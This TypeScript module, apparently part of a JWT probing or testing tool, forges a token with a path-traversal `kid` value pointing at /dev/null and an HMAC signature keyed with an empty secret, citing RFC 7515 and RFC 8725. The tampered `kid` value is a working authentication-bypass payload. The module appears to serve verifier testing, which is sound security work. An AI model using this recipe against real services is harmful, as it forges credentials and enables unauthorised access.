import { isHmacAlg } from '../keys/alg-compat';
import { hmacSign, type ProbeToken, type Tampered, withMembers } from './token-parts';

/** A path to a file every Unix system has and that reads empty: its contents as the HMAC key is no key. */
export const KID_PATH = '../../../../../../../dev/null';

/**
 * `kid` pointing at /dev/null through path traversal, MAC keyed with the empty secret: what a verifier
 * that reads the key from the file the `kid` names accepts (RFC 7515 §4.1.4, RFC 8725 §3.10).
 */
export function kidInjectionRecipe(t: ProbeToken): Tampered {
  const alg = isHmacAlg(t.alg) ? t.alg : 'HS256';
  const header = withMembers(t.header, { alg, kid: KID_PATH });
  return {
    id: 'kid-injection',
    kind: 'kid-injection',
    change: `kid set to "${KID_PATH}", alg "${alg}", MAC keyed with an empty secret`,
    token: hmacSign(header, t.payloadSegment, new Uint8Array(0)),
  };
}
